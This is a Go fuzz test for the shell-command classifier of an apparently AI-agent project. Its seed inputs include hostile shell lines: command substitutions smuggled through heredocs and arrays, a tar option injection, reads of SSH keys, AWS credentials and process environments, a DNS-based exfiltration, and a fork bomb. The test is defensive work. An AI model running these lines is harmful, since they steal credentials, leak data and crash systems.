package shell

import (
	"fmt"
	"path"
	"testing"
	"time"

	"github.com/wisp-agent/wisp/internal/shell/rules"
)

func FuzzClassify(f *testing.F) {
	for _, tc := range lineTable {
		f.Add(tc.line)
	}
	for _, l := range benchCorpus {
		f.Add(l)
	}
	for _, l := range []string{"ls # note \\\ntouch x", "echo \"a\\\n$(id)\"", "cat <<EO\\\nF\n$(id)\nEOF\nEOF",
		"shopt -s extglob; ls @(x|$(id))", "echo $((a[$(id)]))", `declare -a "x=($(id))"`,
		"TAR_OPTIONS=--to-command=id tar tf x.tar", "cat ~/.ss''h/id_rsa", "cat $HOME/.aws/credentials",
		"cat /proc/$PPID/environ", `getent hosts "$(cat x).example"`, ":(){ :|:& };:"} {
		f.Add(l)
	}
	table := rules.Default()
	f.Fuzz(func(t *testing.T, line string) {
		done := make(chan struct{})
		go func() {
			select {
			case <-done:
			case <-time.After(3 * time.Second):
				panic(fmt.Sprintf("slow: %q", line))
			}
		}()
		defer close(done)
		v := ClassifyWith(line, testOpts)
		if _, err := parse(line); err != nil && v.Level != Dangerous {
			t.Fatalf("unparsable line %q is %s", line, v.Level)
		}
		if len(v.Reasons) == 0 {
			t.Fatalf("no reasons for %q", line)
		}
		for _, p := range v.Parts {
			if p.Level > v.Level {
				t.Fatalf("part %q above the verdict", p.Command)
			}
			// A safe line runs only programs the table knows as readers.
			if v.Level == Safe && p.Program != "" {
				if rl := table.Lookup(path.Base(p.Program), ""); rl == nil || !rl.Reader() {
					t.Fatalf("safe line %q runs %q, which the table does not know as a reader", line, p.Program)
				}
			}
			if len(p.Reasons) == 0 {
				t.Fatalf("part %q has no reasons", p.Command)
			}
		}
		_ = v.Text()
		_ = Commands(line)
	})
}
